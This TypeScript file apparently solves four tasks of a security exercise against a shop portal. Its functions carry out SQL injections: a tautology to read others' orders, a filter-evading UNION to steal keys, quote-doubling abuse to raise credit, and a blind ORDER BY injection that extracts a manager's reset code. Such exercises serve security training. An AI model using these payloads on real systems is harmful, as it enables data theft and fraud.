import { request } from 'ounce:client';

/** A customer of the shop: the account that every attack begins with. */
export interface Me {
  name: string;
  key: string;
}

/** Sends one request to the portal, with the customer's key. */
async function send(me: Me, method: string, url: string, body?: unknown): Promise<unknown> {
  const response = await request({ method, url, headers: { 'x-key': me.key }, body });
  return response.status === 200 ? JSON.parse(response.body) : `${response.status} ${response.body}`;
}

/** Task 1: gives back orders of other customers. The rest of the line, with its quote, becomes a comment. */
export async function readOrders(me: Me): Promise<unknown> {
  return send(me, 'GET', `/orders?item=${encodeURIComponent("' OR 1 = 1 --")}`);
}

/** Task 2: gives back the key of another customer. Only "union select", with one space, is refused. */
export async function readKey(me: Me): Promise<unknown> {
  const item = `no such item' UNION ALL SELECT key, name, 0, '' FROM customers WHERE key <> '${me.key}' --`;
  return send(me, 'GET', `/orders?item=${encodeURIComponent(item)}`);
}

/** Task 3: raises the customer's own credit. replace() doubles the first quote, which is there to be doubled. */
export async function raiseCredit(me: Me): Promise<void> {
  await send(me, 'PUT', '/settings', { language: "en'', credit = credit + 900000, language = 'en" });
}

/** Task 4: gives back the code with which the manager's password can be changed, four questions a character. */
export async function readCode(me: Me): Promise<unknown> {
  let code = '';
  while (code.length < 16) {
    let [low, high] = [0, 15];
    while (low < high) {
      const middle = (low + high) >> 1;
      const condition = `substr(reset_code, ${code.length + 1}, 1) <= '${middle.toString(16)}'`;
      if (await isTrue(me, condition)) high = middle;
      else low = middle + 1;
    }
    code += low.toString(16);
  }
  return code;
}

/** One question: the report stands in one order when the condition holds, and in the other when it does not. */
async function isTrue(me: Me, condition: string): Promise<boolean> {
  const question = `(SELECT ${condition} FROM staff WHERE role = 'manager')`;
  const order = `CASE WHEN ${question} THEN status END DESC, status`;
  const rows = (await send(me, 'GET', `/report?sort=${encodeURIComponent(order)}`)) as { status: string }[];
  return rows[0]!.status > rows[1]!.status;
}
